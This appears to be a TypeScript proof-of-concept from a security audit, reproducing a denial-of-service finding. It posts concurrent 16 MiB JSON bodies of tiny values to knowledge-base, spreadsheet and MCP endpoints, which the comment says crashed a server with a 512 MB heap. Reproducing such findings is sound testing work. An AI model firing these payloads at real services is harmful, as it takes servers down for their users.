/** [finding R9] 16 MiB of `{}`: 5 s for everybody each; four of them, held by calls that wait, ended a server with a heap of 512 MB. */
import { call, headersOf, type Target } from './target.ts';

const MiB = 2 ** 20;

/** Returns the statuses that were answered, each with how often. */
export async function tinyValues(target: Target, { rounds = 3, atOnce = 4, waitSeconds = 5 } = {}): Promise<Record<string, number>> {
  const { attacker } = target;
  const { knowledge_base_id } = await call(target, 'wiki/v1/create_knowledge_base', { name: 'y' }, attacker);
  const ids = `"media_ids":["media_none"],"knowledge_base_id":${JSON.stringify(knowledge_base_id)},"wait_seconds":${waitSeconds}`;
  const junk = (piece: string): string => `[${Array.from({ length: Math.floor((16 * MiB - 1000) / (piece.length + 1)) }, () => piece).join(',')}]`;
  const [objects, numbers, text] = [junk('{}'), junk('1'), JSON.stringify('x'.repeat(16 * MiB - 1000))];
  const bodies: [string, string][] = [
    ['/openapi/wiki/v1/get_knowledge_state', `{${ids},"junk":${objects}}`],
    ['/openapi/sheet/v1/set_range_value', `{"file_id":"x","sheet_id":"y","values":${objects}}`],
    ['/mcp', `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"wiki_get_knowledge_state","arguments":{${ids}},"junk":${numbers}}}`],
    ['/openapi/wiki/v1/get_knowledge_state', `{${ids},"junk":${text}}`],
  ];
  const seen: Record<string, number> = {};
  for (let round = 0; round < rounds; round++) {
    await Promise.all(Array.from({ length: atOnce }, async (_, i) => {
      const [path, body] = bodies[i % bodies.length]!;
      const status = await fetch(target.url + path, { method: 'POST', headers: headersOf(attacker), body }).then(async (answer) => {
        await answer.text();
        return String(answer.status);
      }).catch(() => 'broken');
      seen[status] = (seen[status] ?? 0) + 1;
    }));
  }
  return seen;
}
